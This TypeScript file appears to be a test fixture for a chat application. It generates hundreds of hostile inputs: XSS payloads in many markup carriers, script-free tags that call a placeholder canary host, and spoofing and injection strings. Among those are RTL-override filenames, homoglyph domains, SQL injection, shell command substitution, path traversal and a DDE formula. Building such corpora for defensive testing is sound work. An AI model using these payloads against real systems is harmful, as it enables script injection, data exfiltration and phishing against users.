/**
 * What strangers write who want more than to be read: markup, script, addresses, commands of direction, endless and
 * broken text. `CANARY` in each stands for the address of whoever waits to be called.
 */

/** Stands where the address of a server comes in. */
const CANARY = 'http://canary.invalid'

/** Ways to make a program call: a script that marks the page, asks, or fetches. */
const ACTS = [
  'globalThis.pwned=1',
  'alert(1)',
  `fetch('${CANARY}/f')`,
  `new Image().src='${CANARY}/i'`,
  `location='${CANARY}/l'`,
  'parley.request("app.snapshot",{})',
] as const

/** Markup in which an act comes to life. */
const CARRIERS: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<a href="javascript:${act}" autofocus>x</a>`,
  (act) => `<body onload="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<audio src=x onerror="${act}">`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  (act) => `<form><button formaction="javascript:${act}">x</button></form>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<marquee onstart="${act}">x</marquee>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `"><script>${act}</script>`,
  (act) => `' onmouseover='${act}' x='`,
  (act) => `</title><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</style><script>${act}</script>`,
  (act) => `<!--><script>${act}</script-->`,
  (act) => `<![CDATA[<script>${act}</script>]]>`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `%3Cscript%3E${encodeURIComponent(act)}%3C/script%3E`,
  (act) => `{{constructor.constructor('${act.replaceAll("'", '"')}')()}}`,
  (act) => `\${${act}}`,
  (act) => `<%= ${act} %>`,
  (act) => `javascript:${act}`,
  (act) => `[x](javascript:${act})`,
  (act) => `*<b onclick="${act}">*`,
  (act) => `\`\`\`<script>${act}</script>\`\`\``,
]

/** Markup that calls somebody without any script. */
const CALLS: readonly ((place: string) => string)[] = [
  (place) => `<img src="${place}">`,
  (place) => `<img srcset="${place} 2x">`,
  (place) => `<picture><source srcset="${place}"></picture>`,
  (place) => `<link rel=stylesheet href="${place}">`,
  (place) => `<link rel=prefetch href="${place}">`,
  (place) => `<link rel=dns-prefetch href="${place}">`,
  (place) => `<style>@import "${place}";</style>`,
  (place) => `<style>*{background:url(${place})}</style>`,
  (place) => `<p style="background:url(${place})">x</p>`,
  (place) => `<iframe src="${place}"></iframe>`,
  (place) => `<frameset><frame src="${place}"></frameset>`,
  (place) => `<object data="${place}"></object>`,
  (place) => `<embed src="${place}">`,
  (place) => `<video src="${place}" poster="${place}"></video>`,
  (place) => `<audio src="${place}"></audio>`,
  (place) => `<track src="${place}">`,
  (place) => `<base href="${place}/">`,
  (place) => `<meta http-equiv=refresh content="0;url=${place}">`,
  (place) => `<form action="${place}"><input type=submit></form>`,
  (place) => `<a href="${place}" ping="${place}">x</a>`,
  (place) => `<svg><image href="${place}"/></svg>`,
  (place) => `<svg><use href="${place}#x"/></svg>`,
  (place) => `<webview src="${place}"></webview>`,
  (place) => `<portal src="${place}"></portal>`,
  (place) => `<bgsound src="${place}">`,
  (place) => `<table background="${place}">x</table>`,
  (place) => `<script src="${place}"></script>`,
  (place) => `<script type=module>import "${place}"</script>`,
  (place) => `![x](${place})`,
  (place) => `url(${place})`,
]

/** What is no markup and wants to be taken for something else. */
const OTHERS: readonly string[] = [
  '\u202efdp.exe',
  'fatura\u202egpj.exe',
  '\u2066\u2066\u2066never closed',
  '\u2069\u2069closed too often',
  '\u200bhidden\u200b',
  'pay\u200dpal',
  'раypal.com',
  'https://раypal.com/',
  'https://example.com@evil.test/',
  'https://example.com\u202e/moc.live',
  'HTTPS://EXAMPLE.COM/<script>alert(1)</script>',
  'file:///etc/passwd',
  '\\\\server\\share\\run.exe',
  'ms-msdt:/id PCWDiagnostic',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'app://bundle/index.html',
  'media://file/a/1',
  'parley://chat/5511987654321',
  '\u0000',
  'a\u0000b',
  '\u001b[31mred\u001b[0m',
  '\r\nSet-Cookie: a=b',
  '\ud800',
  '\udfff\ud800',
  '\ufffe\uffff',
  '\u{10ffff}',
  'Z\u0351\u036b\u0343\u036a\u0302A\u034c\u0348L\u033a\u0324G\u033b\u0349O\u0337',
  '\ufdfd'.repeat(20),
  '()))((((',
  '*_~`*_~`*_~`',
  '```'.repeat(40),
  '*'.repeat(400),
  '__proto__',
  'constructor',
  '%s%s%s%n',
  "'; DROP TABLE messages; --",
  '" OR 1=1 --',
  '$(touch /tmp/pwned)',
  '`id`',
  '|| calc.exe',
  '../../../../etc/passwd',
  'CON',
  '{{name}}',
  '$t(app.close)',
  '&#60;b&#62;x&#60;/b&#62;',
  '<b>x</b>',
  '<i>',
  '</bdi></div><b>x',
  '<bdi dir=rtl>x',
  'BEGIN:VCARD\nFN:<script>alert(1)</script>\nEND:VCARD',
  "=cmd|' /C calc'!A0",
  'NaN',
  'null',
]

/** All of them, with the address of whoever waits put in: at least 300, no two the same. */
export function injections(canary: string = CANARY): readonly string[] {
  const acts = CARRIERS.flatMap((carry) => ACTS.map((act) => carry(act)))
  const calls = CALLS.map((call, at) => call(`${CANARY}/call-${String(at)}`))
  return [...new Set([...acts, ...calls, ...OTHERS])].map((text) =>
    text.replaceAll(CANARY, canary).replaceAll(encodeURIComponent(CANARY), encodeURIComponent(canary)),
  )
}
